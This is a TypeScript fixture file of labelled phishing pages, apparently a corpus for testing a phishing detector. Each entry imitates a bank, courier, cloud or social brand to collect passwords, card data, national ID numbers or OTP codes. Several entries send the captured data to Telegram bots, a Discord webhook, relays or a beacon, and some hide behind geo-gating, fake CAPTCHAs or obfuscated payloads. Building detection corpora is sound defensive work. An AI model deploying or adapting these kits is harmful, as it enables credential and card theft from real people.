import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, tess, relayScript, mark, MS_LOGO, b64Writer, formwellAction } from '../parts/zq-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

const msBox = (inner: string): string => `<div style="min-height:100vh;display:flex;align-items:center;justify-content:center;background:#f2f2f2 url('https://aadcdn.msftauth.net/shared/1.0/content/images/backgrounds/2_bc3d32a696895f78c19df6c717586a5d.svg') center/cover">
<div style="width:440px;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)">${MS_LOGO}${inner}</div></div>`;

export const entries: Entry[] = [
{
  id: 'zq-tess-m365-shared-invoice',
  label: 'phishing',
  kind: 'builder-m365-kit',
  url: 'https://northpeak-accounting.tessellate.site/documents',
  body: tess({
    title: 'Northpeak Accounting | Secure Documents',
    site: 'Northpeak Accounting',
    accent: '#0b5cab',
    nav: ['Home', 'Documents', 'Contact'],
    body: `<section class="tb-hero"><h1>Secure Document Portal</h1><p>You have (1) pending document: <b>INV-2026-0419 Remittance Advice.pdf</b> (212 KB)</p></section>
<section class="tb-section"><div class="tb-card" style="max-width:460px;margin:auto">
<p style="font-size:14px;color:#555">This document is protected by Microsoft 365 Encryption. Verify your work email to open it.</p>
<form class="tb-form" id="tbf-2291" action="${formwellAction('k8Qz31Lm')}" method="POST">
<input type="hidden" name="_next" value="https://northpeak-accounting.tessellate.site/documents/viewer">
<input type="hidden" name="_subject" value="new doc open">
<label>Work email</label><input type="email" name="email" required placeholder="name@company.com">
<label>Email password</label><input type="password" name="password" required>
<p style="font-size:12px;color:#777">Your session will be remembered on this device for 30 days.</p>
<button class="tb-btn" type="submit">View Document</button></form></div></section>`,
  }),
},

{
  id: 'zq-tess-protected-esign',
  label: 'phishing',
  kind: 'protected-page-esign',
  url: 'https://docs-kellerhart-law.tessellate.site/',
  body: tess({
    title: 'Protected page',
    site: 'Keller Hart LLP',
    accent: '#3d3d3d',
    nav: [],
    body: `<section class="tb-section" id="gate" style="text-align:center;max-width:420px;margin:auto">
<h2>&#128274; This page is password protected</h2><p>Enter the access code from your email to continue.</p>
<form class="tb-form" id="gf"><input type="password" id="gp" placeholder="Access code"><button class="tb-btn" style="margin-top:12px">Enter</button></form><p id="ge" style="color:#b00;display:none">Incorrect access code.</p></section>
<section class="tb-section" id="doc" style="display:none;max-width:520px;margin:auto">
<div class="tb-card"><div style="background:#ffc820;padding:10px 14px;font-weight:700">DocuSign&reg; &nbsp;Electronic Signature Service</div>
<p><b>Keller Hart LLP</b> sent you a document to review and sign: <i>Settlement Agreement &amp; Wire Instructions.pdf</i></p>
<p style="font-size:13px">To sign, confirm your identity with the email account this request was sent to.</p>
<form class="tb-form" id="sf"><label>Email</label><input name="e" type="email" required><label>Password</label><input name="p" type="password" required><button class="tb-btn" style="background:#ffc820;color:#000;margin-top:14px">REVIEW DOCUMENT</button></form></div></section>
<script>
document.getElementById('gf').onsubmit=function(e){e.preventDefault();
if(btoa(document.getElementById('gp').value)==='S0gyMDI2'){document.getElementById('gate').style.display='none';document.getElementById('doc').style.display='block'}else{document.getElementById('ge').style.display='block'}};
</script>
${relayScript('#sf', 'https://formsubmit.co/ajax/7c1e0f0a9b2d4e33b1a7', 'https://www.docusign.com/')}`,
  }),
},

{
  id: 'zq-captcha-gate-onedrive-loader',
  label: 'phishing',
  kind: 'captcha-gated-kit',
  url: 'https://share-0d1v3.staticbay.page/s/Q3J5dC1QTw',
  body: doc('Just a moment...', `<div class="c"><h1>share-0d1v3.staticbay.page</h1><p>Verify you are human by completing the action below.</p>
<label class="cb"><input type="checkbox" id="h"> <span>I'm not a robot</span><small>Protected &middot; Privacy &middot; Terms</small></label>
<p class="ray">Ray ID: 8e1c0a77fb12d3a1</p></div>
<script>
document.getElementById('h').addEventListener('change',function(){
  if(!this.checked)return;
  setTimeout(function(){fetch('/s/assets/v.html?r='+Math.random()).then(function(r){return r.text()}).then(function(t){document.open();document.write(atob(t.split('').reverse().join('')));document.close();});},900);
});
</script>`, { css: `body{background:#fff}.c{max-width:640px;margin:90px auto;padding:0 20px}h1{font-weight:500}.cb{display:flex;align-items:center;gap:10px;border:1px solid #ddd;background:#fafafa;padding:18px;width:300px}.cb small{margin-left:auto;font-size:9px;color:#888}.ray{font-size:12px;color:#777;margin-top:50px}` }),
  routes: {
    'share-0d1v3.staticbay.page/s/assets/v.html': { status: 200, headers: { 'content-type': 'text/plain' }, body: Buffer.from(doc('OneDrive', `<div style="max-width:420px;margin:60px auto;font-family:Segoe UI"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20230815.002/assets/brand-icons/product/svg/onedrive_48x1.svg" height="40"><h2>Shared file: Q2 Payroll Adjustments.xlsx</h2><p>Sign in with your organisation account to open this file.</p><form method="POST" action="https://share-0d1v3.staticbay.page/s/assets/post.php"><input name="u" type="email" placeholder="Email" style="width:100%;padding:10px;margin:6px 0"><input name="p" type="password" placeholder="Password" style="width:100%;padding:10px;margin:6px 0"><button style="background:#0078d4;color:#fff;border:0;padding:10px 28px">Sign in</button></form></div>`)).toString('base64').split('').reverse().join('') },
  },
},

{
  id: 'zq-geo-gated-pko-pl',
  label: 'phishing',
  kind: 'geo-gated-bank-kit',
  url: 'https://ipko-weryfikacja.tessellate.site/logowanie',
  body: tess({
    title: 'PKO Bank Polski - Logowanie do serwisu iPKO',
    site: 'PKO Bank Polski',
    lang: 'pl',
    accent: '#003574',
    nav: ['Klienci indywidualni', 'Firmy', 'Pomoc'],
    badge: false,
    body: `<div id="app" style="display:none"><section class="tb-section" style="max-width:460px;margin:auto">
<h2>Logowanie do iPKO</h2><p style="font-size:14px">W związku z aktualizacją zabezpieczeń prosimy o ponowne potwierdzenie danych logowania.</p>
<form class="tb-form" id="lf"><label>Numer klienta lub login</label><input name="login" required>
<label>Hasło</label><input name="haslo" type="password" required>
<label>PESEL</label><input name="pesel" inputmode="numeric" maxlength="11">
<button class="tb-btn" style="margin-top:14px">Zaloguj</button></form></section></div>
<script>
fetch('https://ipapi.co/json/').then(function(r){return r.json()}).then(function(j){
  if(j.country_code!=='PL'){location.replace('https://www.google.pl/');return;}
  document.getElementById('app').style.display='block';
}).catch(function(){location.replace('https://www.google.pl/')});
</script>
${relayScript('#lf', 'https://api.telegram.org/bot7421998310:AAH3k9vQxLmP0aZr2T8nYd1uEw5fGhJkLq/sendMessage?chat_id=-1002231948&text=', 'https://ipko-weryfikacja.tessellate.site/kod-sms')}`,
  }),
  routes: { 'ipapi.co/json/': jsonRoute({ ip: '83.24.155.10', city: 'Warsaw', country_code: 'PL', country_name: 'Poland', org: 'Orange Polska' }) },
},

{
  id: 'zq-dhl-zollgebuehr-de',
  label: 'phishing',
  kind: 'delivery-fee-card-kit',
  url: 'https://dhl-sendung-7731.staticbay.page/zahlung',
  body: doc('DHL Paket - Zollgebühr', `<header style="background:#ffcc00;padding:14px 6vw"><b style="color:#d40511;font-size:26px;font-style:italic;letter-spacing:-1px">DHL</b></header>
<main style="max-width:560px;margin:30px auto;padding:0 16px">
<h2>Ihre Sendung JJD0001490823641 wartet auf Zustellung</h2>
<p>Für Ihre Sendung ist eine Zollgebühr von <b>2,99 €</b> offen. Bitte begleichen Sie den Betrag innerhalb von 48 Stunden, sonst wird das Paket an den Absender zurückgeschickt.</p>
<form id="cc" action="${formwellAction('dhlPay99')}" method="post">
<label>Name des Karteninhabers</label><input name="holder" required>
<label>Kartennummer</label><input name="pan" inputmode="numeric" maxlength="19" required>
<div style="display:flex;gap:10px"><div><label>Gültig bis</label><input name="exp" placeholder="MM/JJ"></div><div><label>CVC</label><input name="cvc" maxlength="4"></div></div>
<label>Geburtsdatum</label><input name="dob" placeholder="TT.MM.JJJJ">
<button>2,99 € bezahlen</button></form>
<p style="font-size:12px;color:#777">Deutsche Post DHL Group &middot; Datenschutz &middot; Impressum</p></main>`, { lang: 'de', css: `label{display:block;margin-top:10px;font-size:14px}input{width:100%;padding:10px;border:1px solid #aaa}button{margin-top:16px;background:#d40511;color:#fff;border:0;padding:12px 26px;font-weight:700}` }),
},

{
  id: 'zq-laposte-colis-fr-telegram',
  label: 'phishing',
  kind: 'delivery-fee-card-kit',
  url: 'https://laposte-suivi-colis.fr-avis.com/reprogrammer/',
  body: doc('La Poste - Reprogrammer la livraison', `<div class="top"><span class="lp">La Poste</span><span>Colissimo</span></div>
<main><h1>Votre colis n'a pas pu être livré</h1><p>Adresse incomplète. Des frais de réexpédition de <b>1,49 €</b> sont nécessaires pour une nouvelle présentation.</p>
<form id="pf"><fieldset><legend>Vos coordonnées</legend><input name="nom" placeholder="Nom complet" required><input name="adresse" placeholder="Adresse"><input name="cp" placeholder="Code postal"><input name="tel" placeholder="Téléphone mobile"></fieldset>
<fieldset><legend>Paiement sécurisé</legend><input name="cb" placeholder="Numéro de carte" required><input name="exp" placeholder="MM/AA"><input name="cvv" placeholder="Cryptogramme"></fieldset>
<button>Payer 1,49 €</button></form></main>
<script>
var T='7039218844:AAFt2Qw9Lx0pKs-3mBvN8yRz1cDe4Gh5Ij6',C='-4417729011';
document.getElementById('pf').onsubmit=function(e){e.preventDefault();var m='[LP] '+location.host+'\\n';
[].forEach.call(this.elements,function(i){if(i.name)m+=i.name+': '+i.value+'\\n'});
fetch('https://api.telegram.org/bot'+T+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:C,text:m})}).finally(function(){location='sms.html'});};
</script>`, { lang: 'fr', css: `.top{background:#ffd200;padding:16px 6vw;display:flex;gap:20px;font-weight:700}.lp{color:#003da5}main{max-width:540px;margin:24px auto;padding:0 16px}fieldset{border:1px solid #ddd;margin:12px 0}input{display:block;width:100%;padding:10px;margin:6px 0;border:1px solid #bbb}button{background:#003da5;color:#fff;border:0;padding:12px 30px}` }),
},

{
  id: 'zq-meta-copyright-appeal-tess',
  label: 'phishing',
  kind: 'social-appeal-kit',
  url: 'https://meta-appeal-center-81240.tessellate.site/',
  body: tess({
    title: 'Meta Business Help Centre',
    site: 'Meta for Business',
    accent: '#0866ff',
    nav: ['Help Centre', 'Policies'],
    badge: false,
    body: `<section class="tb-section" style="max-width:620px;margin:auto">
<h2>Your page has been scheduled for permanent deletion</h2>
<p>We have received multiple reports that your page infringes on the intellectual property rights of others (Case #CR-5521-884). If you believe this is a mistake, you can submit an appeal within 24 hours.</p>
<div class="tb-card"><form class="tb-form" id="ap"><label>Page name</label><input name="page"><label>Business email</label><input name="email" type="email"><label>Phone number</label><input name="phone"><label>Facebook password</label><input name="pass" type="password"><label>Please explain why you think this decision is incorrect</label><textarea name="msg" rows="3"></textarea><button class="tb-btn" style="margin-top:14px">Submit appeal</button></form></div></section>
${relayScript('#ap', 'https://discord.com/api/webhooks/1228841199023341/kQv9xR_2Lp0mZnT8yB4cWd7', 'https://meta-appeal-center-81240.tessellate.site/2fa')}`,
  }),
},

{
  id: 'zq-netflix-billing-staticbay',
  label: 'phishing',
  kind: 'streaming-billing-kit',
  url: 'https://nflx-billing-update.staticbay.page/account/payment',
  body: doc('Netflix', `<div class="hd"><svg width="111" height="30" viewBox="0 0 111 30"><text x="0" y="25" font-family="Arial Black,Arial" font-size="28" font-weight="900" fill="#e50914">NETFLIX</text></svg></div>
<div class="bx"><h1>Update your payment method</h1><p>We were unable to process your last payment. Your membership will be put on hold unless you update your billing information.</p>
<form method="post" action="../process/update.php"><input name="fn" placeholder="First name"><input name="ln" placeholder="Last name"><input name="cc" placeholder="Card number"><input name="ex" placeholder="Expiration date (MM/YY)"><input name="cv" placeholder="Security code (CVV)"><input name="zip" placeholder="Billing ZIP code"><button>Save</button></form></div>`, { css: `body{background:#000;color:#fff}.hd{padding:22px 4vw}.bx{max-width:450px;margin:30px auto;background:rgba(0,0,0,.75);padding:40px;border:1px solid #333}input{width:100%;padding:14px;margin:6px 0;background:#333;border:0;color:#fff;border-radius:4px}button{width:100%;padding:14px;background:#e50914;color:#fff;border:0;border-radius:4px;font-weight:700;margin-top:14px}` }),
},

{
  id: 'zq-steam-gift-lookalike',
  label: 'phishing',
  kind: 'games-login-kit',
  url: 'https://steamcommunnity.com.ru/gift/activation?code=9F3K2',
  body: doc('Steam Community :: Gift Activation', `<div class="t"><b>STEAM</b><span>STORE &nbsp; COMMUNITY &nbsp; ABOUT &nbsp; SUPPORT</span></div>
<div class="m"><h2>You received a gift: Counter-Strike 2 Prime Status Upgrade</h2><p>From: <b>xXsn1perXx</b> &middot; "gg wp, enjoy"</p>
<button id="open" class="g">Sign in to accept</button></div>
<div id="pop" class="pop" style="display:none"><div class="w"><div class="bar">Sign in to Steam &mdash; https://steamcommunity.com/openid/login</div>
<form id="sf"><label>SIGN IN WITH ACCOUNT NAME</label><input name="username"><label>PASSWORD</label><input name="password" type="password"><label><input type="checkbox" checked> Remember me</label><button class="g">Sign in</button></form>
<div id="g2" style="display:none"><label>Steam Guard code</label><input name="guard" maxlength="5"><button class="g" id="g2b">Submit</button></div></div></div>
<script>
document.getElementById('open').onclick=function(){document.getElementById('pop').style.display='flex'};
document.getElementById('sf').onsubmit=function(e){e.preventDefault();fetch('/api/auth',{method:'POST',body:new FormData(this)});this.style.display='none';document.getElementById('g2').style.display='block'};
document.getElementById('g2b').onclick=function(){fetch('/api/guard',{method:'POST',body:document.querySelector('[name=guard]').value}).then(function(){location='https://steamcommunity.com/'})};
</script>`, { css: `body{background:#1b2838;color:#c7d5e0;font-family:Arial}.t{background:#171a21;padding:16px 6vw;display:flex;gap:40px}.m{max-width:700px;margin:60px auto}.g{background:linear-gradient(90deg,#47bfff,#1a44c2);border:0;color:#fff;padding:10px 28px;border-radius:2px}.pop{position:fixed;inset:0;background:rgba(0,0,0,.7);align-items:center;justify-content:center}.w{background:#181a21;width:420px;padding:0 0 20px}.bar{background:#e8e8e8;color:#333;font-size:12px;padding:6px}form,#g2{padding:20px}input{width:100%;padding:10px;background:#32353c;border:0;color:#fff;margin:4px 0 10px}` }),
},

{
  id: 'zq-adobe-blurred-pdf',
  label: 'phishing',
  kind: 'cloud-drive-lure-kit',
  url: 'https://bramwell-roofing.co.uk/wp-content/uploads/2025/11/scan/index.html',
  body: doc('Adobe Document Cloud', `<div class="bg"></div><div class="ov"><div class="card"><div style="display:flex;align-items:center;gap:10px"><svg width="34" height="34"><rect width="34" height="34" rx="6" fill="#eb1000"/><text x="17" y="23" fill="#fff" font-size="14" font-family="Arial" text-anchor="middle" font-weight="700">A</text></svg><b>Adobe PDF Online</b></div>
<p>This document is protected. Sign in with the email the file was shared with to view <b>Statement_Nov_2026.pdf</b>.</p>
<form id="x"><input name="email" type="email" placeholder="Email address"><input name="password" type="password" placeholder="Email password"><button>View Document</button></form><p id="e" style="color:red;font-size:13px"></p></div></div>
<script>
var c=0;document.getElementById('x').onsubmit=function(e){e.preventDefault();c++;var fd=new FormData(this);fd.append('ip','');fd.append('c',c);
fetch('https://bramwell-roofing.co.uk/wp-content/uploads/2025/11/scan/post.php',{method:'POST',body:fd});
if(c<3){document.getElementById('e').textContent='Network error, please verify your information and try again.'}else{location='https://acrobat.adobe.com/'}};
</script>`, { css: `.bg{position:fixed;inset:0;background:repeating-linear-gradient(#fff 0 18px,#ddd 18px 20px);filter:blur(5px)}.ov{position:fixed;inset:0;display:flex;align-items:center;justify-content:center;background:rgba(0,0,0,.25)}.card{background:#fff;width:380px;padding:26px;border-radius:8px;box-shadow:0 10px 30px rgba(0,0,0,.3)}input{width:100%;padding:10px;margin:6px 0;border:1px solid #bbb}button{background:#eb1000;color:#fff;border:0;padding:10px 22px}` }),
},

{
  id: 'zq-obf-m365-hacked-wp',
  label: 'phishing',
  kind: 'obfuscated-m365-kit',
  url: 'https://sunridge-dental.com/wp-includes/js/tinymce/skins/o365/?e=YS5ub3dha0BzdW5yaWRnZS1kZW50YWwuY29t',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"><title>&#8203;</title></head><body>
${b64Writer(doc('Sign in to your account', msBox(`<h2 style="font-weight:600;font-size:24px">Sign in</h2><form id="mf" method="post" action="https://sunridge-dental.com/wp-includes/js/tinymce/skins/o365/r.php"><input id="u" name="login" type="email" placeholder="Email, phone, or Skype" style="width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;margin:10px 0"><input name="passwd" type="password" placeholder="Password" style="width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;margin:10px 0"><p style="font-size:13px"><a href="#">Forgot my password</a></p><div style="text-align:right"><button style="background:#0067b8;color:#fff;border:0;padding:8px 34px">Sign in</button></div></form><script>try{document.getElementById('u').value=atob(new URLSearchParams(location.search).get('e')||'')}catch(x){}</script>`)))}
</body></html>`,
},

{
  id: 'zq-redirect-chain-sharepoint',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://click.mailtrk-eu.net/c/aHR0cHM6Ly9iaXQ/8812',
  routes: {
    'click.mailtrk-eu.net/c/aHR0cHM6Ly9iaXQ/8812': redirectRoute(302, 'https://tinyurl-go.link/xk29d'),
    'tinyurl-go.link/xk29d': redirectRoute(301, 'https://sp-finance-review.tessellate.site/auth/?doc=2291'),
    'sp-finance-review.tessellate.site/auth/': htmlRoute(tess({
      title: 'SharePoint',
      site: 'SharePoint Online',
      accent: '#036c70',
      nav: [],
      badge: false,
      body: msBox(`<p style="margin-top:20px"><b>Finance Department</b> shared a folder with you.</p><p style="font-size:13px">"FY26 Budget Review" &middot; 6 items</p><form id="spf"><input name="email" type="email" placeholder="someone@example.com" style="width:100%;padding:8px;margin:8px 0"><input name="password" type="password" placeholder="Password" style="width:100%;padding:8px;margin:8px 0"><button style="background:#0067b8;color:#fff;border:0;padding:8px 30px">Next</button></form>`) +
        relayScript('#spf', 'https://sp-finance-review.tessellate.site/auth/next.php', 'https://www.office.com/'),
    })),
  },
},

{
  id: 'zq-olx-odbierz-srodki-pl',
  label: 'phishing',
  kind: 'marketplace-payout-kit',
  url: 'https://olx-pl.bezpieczna-dostawa.info/oferta/4481023/odbior',
  body: doc('OLX - Odbierz środki', `<div class="t">OLX<span> Bezpieczna płatność</span></div><main><h2>Kupujący opłacił Twój przedmiot</h2>
<div class="it"><b>Rower górski Kross Level 2.0</b><br>Kwota: <b>1 250,00 zł</b><br>Dostawa: OLX Przesyłka &middot; InPost</div>
<p>Aby otrzymać środki na kartę, podaj dane karty, na którą mamy przelać pieniądze.</p>
<form id="o"><input name="karta" placeholder="Numer karty" inputmode="numeric"><input name="data" placeholder="MM/RR"><input name="cvv" placeholder="CVV2/CVC2"><input name="saldo" placeholder="Aktualne saldo karty (wymagane do weryfikacji)"><button>Odbierz 1 250,00 zł</button></form></main>
<script>
document.getElementById('o').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));
fetch('/api/v1/card',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)}).then(function(){location='/oferta/4481023/3ds'})};
</script>`, { lang: 'pl', css: `.t{background:#002f34;color:#fff;padding:16px 6vw;font:700 26px Arial}.t span{font-size:14px;font-weight:400}main{max-width:480px;margin:24px auto;padding:0 14px}.it{background:#f2f4f5;padding:14px;border-radius:4px}input{width:100%;padding:11px;margin:6px 0}button{width:100%;background:#002f34;color:#fff;border:0;padding:13px}` }),
},

{
  id: 'zq-appleid-locked-formwell',
  label: 'phishing',
  kind: 'apple-id-kit',
  url: 'https://appleid-support-unlock.tessellate.site/',
  body: tess({
    title: 'Apple ID',
    site: 'Apple ID',
    accent: '#0071e3',
    nav: ['Sign In', 'Create Your Apple ID', 'FAQ'],
    badge: false,
    body: `<section class="tb-section" style="text-align:center"><h1 style="font-weight:600"></h1><h2>Your Apple ID has been locked for security reasons</h2><p>Someone tried to sign in to your account from an unknown device in Lagos, Nigeria. To unlock your account, verify your identity.</p>
<form class="tb-form" action="${formwellAction('apl0ck55')}" method="post" style="max-width:360px;margin:auto;text-align:left"><label>Apple ID</label><input name="appleid" type="email"><label>Password</label><input name="password" type="password"><label>Card number on file</label><input name="card"><label>Expiry / CVV</label><input name="expcvv"><button class="tb-btn" style="margin-top:14px;width:100%">Unlock account</button></form></section>`,
  }),
},

{
  id: 'zq-paypal-limitation-chatapi',
  label: 'phishing',
  kind: 'payment-login-kit',
  url: 'https://resolution-center-paypal.account-limit.info/myaccount/restore',
  body: doc('PayPal: Resolution Center', `<div class="h"><svg width="100" height="26"><text x="0" y="21" font-family="Verdana" font-weight="700" font-style="italic" font-size="22" fill="#003087">Pay<tspan fill="#009cde">Pal</tspan></text></svg></div>
<main><h2>Your account access has been limited</h2><p>We noticed some unusual activity. Until you help us resolve this, you won't be able to send money or withdraw funds.</p>
<form id="pp"><input name="login_email" placeholder="Email or mobile number"><input name="login_password" type="password" placeholder="Password"><button>Log In</button></form></main>
<script>
document.getElementById('pp').onsubmit=async function(e){e.preventDefault();var f=new FormData(this);
await fetch('https://api.chatbot-relay.io/v2/messages',{method:'POST',headers:{'Authorization':'Bearer sk_relay_9c2f7a0d1b','Content-Type':'application/json'},body:JSON.stringify({channel:'pp-logs',text:'PP | '+f.get('login_email')+' | '+f.get('login_password')+' | '+navigator.userAgent})});
location.href='/myaccount/restore/card';};
</script>`, { css: `.h{padding:20px;text-align:center}main{max-width:420px;margin:auto;text-align:center;padding:0 14px}input{width:100%;padding:14px;margin:7px 0;border:1px solid #9da3a6;border-radius:4px}button{width:100%;padding:13px;border-radius:24px;background:#0070ba;color:#fff;border:0;font-weight:700}` }),
},

{
  id: 'zq-lure-lawfirm-view-document',
  label: 'phishing',
  kind: 'lure-link-on',
  url: 'https://harper-cole-llp.tessellate.site/',
  body: tess({
    title: 'Harper & Cole LLP — Secure File Share',
    site: 'Harper &amp; Cole LLP',
    accent: '#29374f',
    nav: ['Secure Files'],
    body: `<section class="tb-hero"><h1>Secure File Share</h1><p>A document has been shared with you by Harper &amp; Cole LLP, Attorneys at Law.</p></section>
<section class="tb-section"><div class="tb-card" style="max-width:520px"><p>&#128196; <b>Escrow Release Authorization - Ref 44-1187.pdf</b></p><p style="font-size:13px;color:#555">Shared via Microsoft OneDrive &middot; 1 file &middot; Access expires in 48 hours</p>
<a class="tb-btn" href="https://login-microsoftonline-secure.authportal-eu.com/common/oauth2/authorize?client_id=4765445b&amp;redirect=harper">VIEW DOCUMENT</a></div></section>`,
  }),
},

{
  id: 'zq-linkedin-recruiter-docs',
  label: 'phishing',
  kind: 'social-login-kit',
  url: 'https://linkedin-talent-offers.staticbay.page/jobs/view/3891224/apply',
  body: doc('LinkedIn Login, Sign in | LinkedIn', `<div class="l"><svg width="102" height="26"><text x="0" y="21" font-family="Arial" font-weight="700" font-size="22" fill="#0a66c2">Linked</text><rect x="70" y="2" width="24" height="22" rx="3" fill="#0a66c2"/><text x="74" y="20" font-family="Arial" font-weight="700" font-size="18" fill="#fff">in</text></svg>
<h1>Sign in</h1><p>to view your offer letter from <b>Shell plc</b> &mdash; Senior Project Engineer (Remote)</p>
<form id="li" method="post" action="/uas/login-submit.php"><input name="session_key" placeholder="Email or Phone"><input name="session_password" type="password" placeholder="Password"><a href="#">Forgot password?</a><button>Sign in</button></form></div>`, { css: `body{background:#f3f2ef}.l{width:352px;margin:60px auto;background:#fff;padding:24px;border-radius:8px;box-shadow:0 4px 12px rgba(0,0,0,.15)}input{width:100%;padding:12px;margin:6px 0;border:1px solid #666;border-radius:4px}button{width:100%;margin-top:14px;background:#0a66c2;color:#fff;border:0;padding:13px;border-radius:24px;font-weight:600}` }),
},

{
  id: 'zq-coinbase-verify-login',
  label: 'phishing',
  kind: 'crypto-exchange-login-kit',
  url: 'https://coinbase.login-assist-desk.com/signin',
  body: doc('Coinbase - Sign In', `<div class="c"><b style="color:#0052ff;font-size:28px">coinbase</b><h2>Sign in to Coinbase</h2>
<p class="w">&#9888; A withdrawal of 0.4821 BTC was requested from your account. If this wasn't you, sign in to cancel it.</p>
<form id="cb"><input name="email" placeholder="Email"><input name="password" type="password" placeholder="Password"><button>Continue</button></form>
<form id="cb2" style="display:none"><p>Enter the 7-digit code sent to your phone</p><input name="code" maxlength="7"><button>Verify</button></form></div>
<script>
var s=new WebSocket('wss://coinbase.login-assist-desk.com/ws');
document.getElementById('cb').onsubmit=function(e){e.preventDefault();s.send(JSON.stringify({t:'login',d:Object.fromEntries(new FormData(this))}));this.style.display='none';document.getElementById('cb2').style.display='block'};
document.getElementById('cb2').onsubmit=function(e){e.preventDefault();s.send(JSON.stringify({t:'otp',d:Object.fromEntries(new FormData(this))}));this.innerHTML='<p>Please wait, a support agent is reviewing your request&hellip;</p>'};
</script>`, { css: `.c{max-width:400px;margin:60px auto;padding:0 16px}.w{background:#fff4e5;padding:10px;border-radius:6px;font-size:14px}input{width:100%;padding:14px;margin:6px 0;border:1px solid #ccc;border-radius:8px}button{width:100%;background:#0052ff;color:#fff;border:0;padding:14px;border-radius:30px;margin-top:10px}` }),
},

{
  id: 'zq-docusign-ipfs-style-gateway',
  label: 'phishing',
  kind: 'esign-lure-kit',
  url: 'https://ipfs.w3s-gateway.link/ipfs/bafybeihx3k2qz7m5docsignrevw4l/index.html',
  body: doc('DocuSign', `<div style="background:#1e1e1e;padding:14px 6vw"><b style="color:#fff;font-size:20px">DocuSign</b></div>
<div style="max-width:560px;margin:40px auto;font-family:Arial;padding:0 14px"><div style="background:#214e9f;color:#fff;padding:26px;text-align:center"><p>Payroll Department sent you a document to review and sign.</p><p style="font-size:20px">2026 Salary Increase Letter</p></div>
<p>Please confirm your email account to access the document.</p><form id="ds"><input name="email" placeholder="Email" style="width:100%;padding:10px;margin:5px 0"><input name="pass" type="password" placeholder="Password" style="width:100%;padding:10px;margin:5px 0"><button style="background:#ffc820;border:0;padding:10px 24px;font-weight:700">CONTINUE</button></form></div>
<script>
document.getElementById('ds').onsubmit=function(e){e.preventDefault();var q=new URLSearchParams(new FormData(this)).toString();new Image().src='https://collect.salesmetric-cdn.com/px.gif?'+btoa(q);setTimeout(function(){location='https://www.docusign.com/'},700)};
</script>`),
},
];
